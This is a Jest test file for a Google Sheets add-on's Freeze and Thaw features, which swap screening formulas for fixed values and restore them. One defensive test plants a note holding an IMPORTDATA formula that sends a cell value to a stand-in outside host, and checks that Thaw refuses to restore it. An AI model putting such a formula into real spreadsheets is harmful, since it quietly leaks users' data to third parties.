/**
 * Freeze and thaw on the stand-in: cells that a formula fills, cells of the user's own, protected cells, long texts,
 * and runs that are killed at every step. Nothing here asks the service: formulas are calculated at once, and the clock
 * skips waiting.
 */
import { sheetCells } from "../../appsscript/cells/cells";
import type { Cells } from "../../src/core/call";
import { english, type Wording } from "../../src/core/wording";
import { arabicWording } from "../../src/i18n/arabic";
import { failures } from "../failures";
import { answeredCells, formulas as everyFormula, type Formula, failedCells, names } from "../functions/answeredCells";
import { isNumeric } from "../numericColumns";
import { type Opened, open } from "./opened";
import type { Document } from "./stand-in/document";

let opened: Opened;
afterEach(() => opened.close());

const odd: Readonly<Record<string, string>> = {
  MONEY: "$5",
  DAY: "Jan 5",
  ZEROS: "0700",
  FORMULA: "=1+1",
  TRUTH: "TRUE",
  GERMAN: "Wird geladen...",
  ARABIC: "جارٍ التحميل…",
};

/** What the formulas of these tests show: each ticker is told by its name, a blank one by a blank. */
function calculates(formula: string, read: (reference: string) => unknown[][]): unknown {
  const [, name, reference = "A1"] = /^=SHARIAH_(\w+)\(([^,)]*)\)$/.exec(formula) ?? [];
  const told = (ticker: unknown) => (ticker === "" ? "" : ticker === "BAD" ? "#NUM!" : `of ${ticker}`);
  if (name === "STATUS") return read(reference).map((row) => row.map(told));
  if (name === "NAME") return read(reference).map((row) => row.map((ticker) => odd[String(ticker)] ?? ""));
  if (name === "RANK")
    return read(reference).map((row) => row.map((ticker) => (ticker === "" ? "" : String(ticker).length)));
  if (name === "SCREEN") {
    return read(reference).map(([ticker]) =>
      ticker === "" ? ["", "", ""] : [told(ticker), ticker === "KO" ? "" : 2, true],
    );
  }
  if (name === "LIST") return [["AAPL"], ["MSFT"]];
  const [, tested = "", from = ""] = /^=IF\((\w+)="","",SUM\(([\w:]+)\)\)$/.exec(formula) ?? [];
  if (from)
    return read(tested)[0]?.[0] === ""
      ? ""
      : read(from)
          .flat()
          .reduce((sum: number, one) => sum + Number(one), 0);
  const [, copied] = /^=ARRAYFORMULA\(([\w:]+)\)$/.exec(formula) ?? [];
  if (copied) return read(copied);
  return formula === "=TODAY()" ? 7 : undefined;
}

async function sheetOf(cells: Readonly<Record<string, readonly (readonly unknown[])[]>>, options: object = {}) {
  opened = await open({ bare: true, speed: Number.POSITIVE_INFINITY, latencyFactor: 1, calculates, ...options });
  const { document } = opened;
  await document.open();
  for (const [at, typed] of Object.entries(cells)) document.enter(at, typed);
  return document;
}

const down = (...values: readonly unknown[]) => values.map((value) => [value]);
const area = { row: 1, column: 1, rows: 40, columns: 12 };
const formulas = (document: Document) => document.spreadsheet.sheet("Sheet1").formulas(area);
const shownCells = (document: Document) => document.spreadsheet.sheet("Sheet1").values(area);
const notes = (document: Document) => document.spreadsheet.sheet("Sheet1").notes(area).flat().filter(Boolean);
const lastToast = (document: Document) => document.ui.toasts[document.ui.toasts.length - 1];

async function freeze(document: Document, selection = "A1:L40") {
  document.selection = selection;
  await document.menu("Freeze");
}

/** Frozen, nothing of ours calculates and everything shows as before; thawed, everything is as it was. */
async function thereAndBack(document: Document, frozen: RegExp) {
  const before = [formulas(document), shownCells(document)];
  await freeze(document);
  expect(lastToast(document)).toMatch(frozen);
  expect(shownCells(document)).toEqual(before[1]);
  await document.menu("Thaw");
  expect([formulas(document), shownCells(document)]).toEqual(before);
  expect(notes(document)).toEqual([]);
}

test.each([
  ["a blank ticker in the middle", down("AAPL", "", "KO", "MSFT")],
  ["two blanks, one after the other", down("AAPL", "", "", "MSFT")],
  ["a ticker that failed in the middle", down("AAPL", "BAD", "KO", "MSFT")],
])("a range with %s is frozen to its end", async (_, tickers) => {
  const document = await sheetOf({ A2: tickers, B2: [["=SHARIAH_STATUS(A2:A5)"]], D2: [["=SHARIAH_SCREEN(A2:A5)"]] });
  await thereAndBack(document, /^2 formulas frozen/);
});

test("the text that Google shows while a cell is calculated is never frozen, in any language", async () => {
  const document = await sheetOf({
    A2: down("GERMAN", "ARABIC", "MONEY"),
    B2: down("=SHARIAH_NAME(A2)", "=SHARIAH_NAME(A3)", "=SHARIAH_NAME(A4)"),
  });
  await freeze(document);
  expect(lastToast(document)).toMatch(/^1 formula frozen.* Still loading, and left as formulas: 2\.$/);
  expect(
    formulas(document)
      .slice(1, 4)
      .map((line) => line[1]),
  ).toEqual(["=SHARIAH_NAME(A2)", "=SHARIAH_NAME(A3)", ""]);
});

test("a refresh that is under way is not frozen over: how many of its formulas are still to be written", async () => {
  const document = await sheetOf({ A2: down("AAPL", "KO"), B2: down("=SHARIAH_STATUS(A2)", "=SHARIAH_STATUS(A3)") });
  const job = { at: document.clock.now(), where: "all", stale: document.clock.now(), written: 0, formulas: 2 };
  document.properties.write({ "shariah.refresh": JSON.stringify(job) });
  const before = formulas(document);
  await freeze(document);
  expect(lastToast(document)).toMatch(/^0 formulas frozen.* Still loading, and left as formulas: 2\.$/);
  expect(formulas(document)).toEqual(before);
  document.properties.remove(["shariah.refresh"]);
  await freeze(document);
  expect(lastToast(document)).toMatch(/^2 formulas frozen/);
});

test("freezing a table whose first row is short keeps its other columns", async () => {
  const document = await sheetOf({ A2: down("KO", "AAPL", "MSFT"), D2: [["=SHARIAH_SCREEN(A2:A4)"]] });
  await thereAndBack(document, /^1 formula frozen/);
});

test("freezing single cells beside a table, and a formula above it, gives each its own values", async () => {
  const document = await sheetOf({
    A2: down("AAPL", "", "KO"),
    B2: down("=SHARIAH_STATUS(A2)", "=SHARIAH_STATUS(A3)", "=SHARIAH_STATUS(A4)"),
    C2: [["=SHARIAH_SCREEN(A2:A4)"]],
    E1: [["=SHARIAH_RANK(A2)"]],
  });
  const before = [formulas(document), shownCells(document)];
  await freeze(document);
  expect(shownCells(document)).toEqual(before[1]);
  // What somebody changed stays theirs, and keeps nothing else from coming back.
  document.enter("B4", [["mine"]]);
  await document.menu("Thaw");
  expect(lastToast(document)).toBe("3 formulas thawed. Changed since, and left as they are: 1.");
  expect(formulas(document)[1]?.slice(1, 3)).toEqual(["=SHARIAH_STATUS(A2)", "=SHARIAH_SCREEN(A2:A4)"]);
  expect(document.values("C2:E4")).toEqual((before[1] as unknown[][]).slice(1, 4).map((row) => row.slice(2, 5)));
  expect(document.value("B4")).toBe("mine");
});

test("a range that begins with a blank or an error is told, and keeps its formula", async () => {
  const document = await sheetOf({
    A2: down("", "AAPL", "BAD", "KO"),
    B2: [["=SHARIAH_STATUS(A2:A3)"]],
    C2: [["=SHARIAH_STATUS(A4:A5)"]],
    D2: [["=SHARIAH_STATUS(A5)"]],
  });
  await freeze(document);
  expect(lastToast(document)).toBe(
    "1 formula frozen to values. Thaw brings them back. Showing nothing or an error, and left as formulas: 2.",
  );
  expect(formulas(document)[1]?.slice(1, 4)).toEqual(["=SHARIAH_STATUS(A2:A3)", "=SHARIAH_STATUS(A4:A5)", ""]);
});

test("a person's own formulas beside what is frozen are never touched", async () => {
  const document = await sheetOf({
    A2: down("AAPL", "MSFT", "KO", "PG"),
    C2: [["=SHARIAH_RANK(A2:A5)"]],
    C6: [['=IF(C5="","",SUM(C2:C5))']],
    E2: [["=ARRAYFORMULA(C2:C5)"]],
    B1: [["=TODAY()"]],
    D1: [["=TODAY()"]],
  });
  const before = [formulas(document), shownCells(document)];
  await freeze(document);
  expect(shownCells(document)).toEqual(before[1]);
  const ours = (text: string) => text.replace("=SHARIAH_RANK(A2:A5)", "");
  expect(formulas(document)).toEqual((before[0] as string[][]).map((row) => row.map(ours)));
  await document.menu("Thaw");
  expect([formulas(document), shownCells(document)]).toEqual(before);
});

test("what a person typed into a frozen range stays, and the formula comes back once it is gone", async () => {
  const document = await sheetOf({ A2: down("AAPL", "", "KO"), B2: [["=SHARIAH_STATUS(A2:A4)"]] });
  const before = [formulas(document), shownCells(document)];
  await freeze(document);
  document.enter("B3", [["mine"]]);
  await document.menu("Thaw");
  expect(lastToast(document)).toBe("0 formulas thawed. Changed since, and left as they are: 1.");
  expect(document.values("B2:B4")).toEqual(down("of AAPL", "mine", "of KO"));
  document.enter("B3", [[""]]);
  await document.menu("Thaw");
  expect([formulas(document), shownCells(document)]).toEqual(before);
});

test("frozen text stays text", async () => {
  const document = await sheetOf({ A2: down(...Object.keys(odd)), B2: [["=SHARIAH_NAME(A2:A6)"]] });
  await thereAndBack(document, /^1 formula frozen/);
});

test("protected cells are left out and counted, by freeze and by thaw", async () => {
  const document = await sheetOf({
    A2: down("AAPL", "MSFT", "KO", "PG"),
    B2: down("=SHARIAH_STATUS(A2)", "=SHARIAH_STATUS(A3)", "=SHARIAH_STATUS(A4)", "=SHARIAH_STATUS(A5)"),
    D2: [["=SHARIAH_SCREEN(A2:A5)"]],
    H2: [["=SHARIAH_RANK(A2:A5)"]],
  });
  const { spreadsheet } = document;
  const before = [formulas(document), shownCells(document)];
  spreadsheet.protectedCells = [
    { row: 3, column: 2, rows: 1, columns: 1 },
    { row: 4, column: 5, rows: 1, columns: 1 },
  ];
  await freeze(document);
  expect(lastToast(document)).toBe(
    "4 formulas frozen to values. Thaw brings them back. Protected, and left as they are: 2.",
  );
  expect(shownCells(document)).toEqual(before[1]);
  expect(formulas(document)[1]).toEqual(["", "", "", "=SHARIAH_SCREEN(A2:A5)", ...Array(8).fill("")]);
  expect(formulas(document)[2]?.[1]).toBe("=SHARIAH_STATUS(A3)");
  spreadsheet.protectedCells = [{ row: 5, column: 2, rows: 1, columns: 1 }];
  await document.menu("Thaw");
  expect(lastToast(document)).toBe("3 formulas thawed. Protected, and left as they are: 1.");
  spreadsheet.protectedCells = [];
  await document.menu("Thaw");
  expect([formulas(document), shownCells(document)]).toEqual(before);
  expect(notes(document)).toEqual([]);
});

test("the user's own note stands before the stamp, and alone after a thaw", async () => {
  const document = await sheetOf({ A2: down("AAPL"), B2: [["=SHARIAH_STATUS(A2)"]] });
  const sheet = document.spreadsheet.sheet("Sheet1");
  sheet.note(2, 2, "ask Aisha\nabout it");
  await freeze(document);
  expect(notes(document)[0]).toMatch(/^ask Aisha\nabout it\nFrozen \d{4}-.*\n=SHARIAH_STATUS\(A2\)$/);
  await document.menu("Thaw");
  expect(notes(document)).toEqual(["ask Aisha\nabout it"]);
});

test("freezes of earlier versions thaw, and a note with another's formula is not written", async () => {
  const document = await sheetOf({ A2: down("AAPL", "KO"), B2: down("of AAPL", "of KO"), D2: [["x"]], F2: [["y"]] });
  const sheet = document.spreadsheet.sheet("Sheet1");
  const at = "Frozen 2026-11-01T00:00:00.000Z";
  sheet.note(2, 2, `mine\n${at} [abc123_2_1] by Ali\n=SHARIAH_STATUS(A2:A3)`);
  sheet.note(2, 4, `${at} [abc123]\n=SHARIAH_STATUS(A3)`);
  sheet.note(2, 6, `${at} [abc123]\n=IMPORTDATA("https://elsewhere.example/?"&A2)`);
  const [stamp] = (await document.run("pane", "freezer.frozen", [])) as { at: number; cells: number }[];
  expect(stamp).toMatchObject({ at: Date.parse("2026-11-01T00:00:00.000Z") });
  await document.menu("Thaw");
  expect(lastToast(document)).toBe("2 formulas thawed. No formulas of Shariah Sheets, and not written: 1.");
  expect(formulas(document)[1]?.slice(1, 6)).toEqual(["=SHARIAH_STATUS(A2:A3)", "", "=SHARIAH_STATUS(A3)", "", ""]);
  expect(document.values("B2:F3")).toEqual([
    ["of AAPL", "", "of KO", "", "y"],
    ["of KO", "", "", "", ""],
  ]);
  expect(notes(document)).toEqual(["mine", expect.stringContaining("IMPORTDATA")]);
});

test("freeze, insert a row above, thaw: the formulas come back where their cells are, and look where these look", async () => {
  const document = await sheetOf({
    A1: [["Ticker", "Verdict"]],
    A2: down("AAPL", "", "KO"),
    B2: [["=SHARIAH_STATUS(A2:A4)"]],
    C2: down("=SHARIAH_STATUS($A$2)", "=SHARIAH_RANK(A4)", "=SHARIAH_STATUS(A1)"),
  });
  const frozen = shownCells(document);
  await freeze(document);
  document.insertRow(1);
  document.insertRow(3);
  await document.menu("Thaw");
  expect(lastToast(document)).toBe("4 formulas thawed.");
  expect(formulas(document)[3]?.slice(1, 3)).toEqual(["=SHARIAH_STATUS(A4:A6)", "=SHARIAH_STATUS($A$4)"]);
  expect(formulas(document)[4]?.[2]).toBe("=SHARIAH_RANK(A6)");
  expect(shownCells(document).slice(3, 6)).toEqual(frozen.slice(1, 4));
});

/** Formulas of ours of every kind, and what is none of ours. */
const mixed = {
  A2: down("AAPL", "", "KO", "PG", "MSFT"),
  B2: down(...[2, 3, 4, 5, 6].map((row) => `=SHARIAH_STATUS(A${row})`)),
  C2: [["=SHARIAH_SCREEN(A2:A4)"]],
  F2: [["=SHARIAH_RANK(A2:A6)"]],
  F7: [['=IF(F6="","",SUM(F2:F6))']],
  H2: [["=ARRAYFORMULA(F2:F6)"]],
};

test.each(["Freeze", "Thaw"])("%s that is killed at any step loses nothing: Thaw brings it back", async (item) => {
  const document = await sheetOf(mixed);
  const before = [formulas(document), shownCells(document)];
  const operations = document.spreadsheet.operations as Record<string, (...given: unknown[]) => unknown>;
  const whole = { ...operations };
  let steps = 0;
  let last = Number.POSITIVE_INFINITY;
  for (const name of ["sheet.note", "sheet.enter", "sheet.clear", "sheet.flush"]) {
    operations[name] = async (execution: unknown, ...given: unknown[]) => {
      steps += 1;
      const step = steps;
      const end = () => (execution as { kill(message: string): void }).kill("Exceeded maximum execution time");
      // Odd ones end before the step is done, even ones after it.
      if (step * 2 - 1 === last) return end();
      await whole[name]?.(execution, ...given);
      if (step * 2 === last) end();
    };
  }
  const killedAt = async (at: number) => {
    last = at;
    steps = 0;
    const ended = await document.menu(item).then(
      () => true,
      () => false,
    );
    last = Number.POSITIVE_INFINITY;
    return ended;
  };
  document.selection = "A1:L40";
  for (let at = 1; ; at += 1) {
    if (item === "Thaw") await document.menu("Freeze");
    const ended = await killedAt(at);
    if (at % 3 === 0) await document.menu("Freeze");
    await document.menu("Thaw");
    expect([at, formulas(document), shownCells(document)]).toEqual([at, ...before]);
    expect([at, notes(document)]).toEqual([at, []]);
    if (!ended) continue;
    expect(at).toBeGreaterThan(15);
    break;
  }
});

const many = (count: number) => ({
  A2: Array.from({ length: count / 5 }, (_, row) => [
    `T${row}`,
    ...["STATUS", "RANK", "STATUS", "RANK", "STATUS"].map((name) => `=SHARIAH_${name}(A${row + 2})`),
  ]),
});

test("5,000 formulas are frozen in one run, and thawed in one", async () => {
  const count = 5_000;
  const document = await sheetOf(many(count));
  const sheet = document.spreadsheet.sheet("Sheet1");
  const all = { row: 2, column: 1, rows: count / 5, columns: 6 };
  const before = sheet.formulas(all);
  for (const item of ["Freeze", "Thaw"]) {
    document.selection = `A1:F${count / 5 + 1}`;
    const from = document.clock.now();
    await document.menu(item);
    expect(lastToast(document)).toContain(`${count} formulas ${item === "Thaw" ? "thawed" : "frozen"}`);
    expect(document.clock.now() - from).toBeLessThan(60_000);
    if (item === "Freeze") expect(sheet.formulas(all).flat().join("")).toBe("");
  }
  expect(sheet.formulas(all)).toEqual(before);
});

test("a freeze of scattered formulas stops in time and says so, and the sidebar continues it", async () => {
  const document = await sheetOf(
    {
      A1: Array.from({ length: 40 }, (_, row) =>
        Array.from({ length: 10 }, (__, at) => ((row + at) % 2 ? `T${row}` : "=SHARIAH_LIST()")),
      ),
    },
    {
      latency: { sheetWrite: [2_000, 2_000] },
      calculates: (formula: string) => (formula === "=SHARIAH_LIST()" ? "listed" : undefined),
    },
  );
  await freeze(document);
  expect(lastToast(document)).toMatch(/^\d+ formulas frozen to values\. .* \d+ left: choose it again to go on\.$/);
  const left = () => formulas(document).flat().filter(Boolean).length;
  expect(left()).toBeGreaterThan(0);
  expect(document.runs[document.runs.length - 1]?.error).toBeUndefined();
  expect(await document.run("pane", "freezer.takeUp", [])).toBeNull();
  await document.clock.wait(61_000);
  for (let step = await document.run("pane", "freezer.takeUp", []); ; ) {
    const { done, formulas: frozen } = step as { done: boolean; formulas: number };
    if (done) {
      expect(frozen).toBe(200);
      break;
    }
    step = await document.run("pane", "freezer.goOn", []);
  }
  expect(left()).toBe(0);
  expect(Object.keys(document.properties.read())).not.toContain("shariah2.freeze");
});

const languages = [
  ["English", english],
  ["Arabic", arabicWording(true)],
] as const;
/** Of tables the first rows and columns, as they stand below one another. */
const tall = 3;

/** What Sheets shows of a function's cells: a script that throws is an error, and no number is one too. */
function shownBySheets({ name, typed }: Formula, cells: Cells, wording: Wording): unknown[][] {
  try {
    const shown = sheetCells(
      cells.slice(0, tall).map((row) => row.slice(0, tall)),
      isNumeric(name, typed),
      wording,
    );
    const rows = Array.isArray(shown) ? shown : [[shown]];
    return rows.map((row) => row.map((value) => (Number.isNaN(value) ? "#NUM!" : value)));
  } catch {
    return [["#ERROR!"]];
  }
}

/** A sheet of formulas that show these cells, each with room below. */
async function sheetShowing(shows: readonly (readonly [Formula, Cells])[], wording: Wording) {
  const results = new Map<string, unknown[][]>();
  const entered = shows.flatMap(([one, cells], nth) => {
    const formula = `${one.formula.replace(/^=SHARIAH\.([A-Z.]+)/, (_, name: string) => `=SHARIAH_${name.replaceAll(".", "_")}`)}+N("${nth}")`;
    results.set(formula, shownBySheets(one, cells, wording));
    return [[formula], ...Array.from({ length: tall - 1 }, () => [""])];
  });
  const document = await sheetOf({ B2: entered }, { calculates: (formula: string) => results.get(formula) });
  document.selection = `A1:F${entered.length + 1}`;
  return document;
}

describe.each(languages)("in %s", (_, wording) => {
  beforeEach(() => {
    // A date is the spreadsheet's own.
    Object.assign(globalThis, {
      Utilities: { parseDate: (day: string) => new Date(day) },
      SpreadsheetApp: { getActiveSpreadsheet: () => ({ getSpreadsheetTimeZone: () => "UTC" }) },
    });
  });
  afterEach(() => {
    for (const name of ["Utilities", "SpreadsheetApp"]) Reflect.deleteProperty(globalThis, name);
  });

  test("every function's answer is frozen, and a refresh of errors does not include it", async () => {
    const shows = everyFormula.flatMap((one) =>
      names.flatMap((company) => [false, true].map((isKept) => [one, answeredCells(one, company, isKept)] as const)),
    );
    const document = await sheetShowing(shows, wording);
    expect(await document.run("pane", "refresher.demands", ["errors"])).toEqual([]);
    await document.menu("Freeze");
    expect(lastToast(document)).toBe(`${shows.length} formulas frozen to values. Thaw brings them back.`);
  });

  test.each([1, 2])("no function is frozen, for whatever reason it has no answer: of %i tickers", async (tickers) => {
    const shows = everyFormula.flatMap((one) =>
      Object.values(failures).flatMap((failure) => {
        const cells = failedCells(one, failure);
        const isShare = one.name === "COVERAGE" && cells[0]?.[0] === 0;
        return isShare ? [] : [[one, Array.from({ length: tickers }, () => cells).flat()] as const];
      }),
    );
    const document = await sheetShowing(shows, wording);
    await document.menu("Freeze");
    expect(lastToast(document)).toBe(
      `0 formulas frozen to values. Thaw brings them back. Showing nothing or an error, and left as formulas: ${shows.length}.`,
    );
  });
});
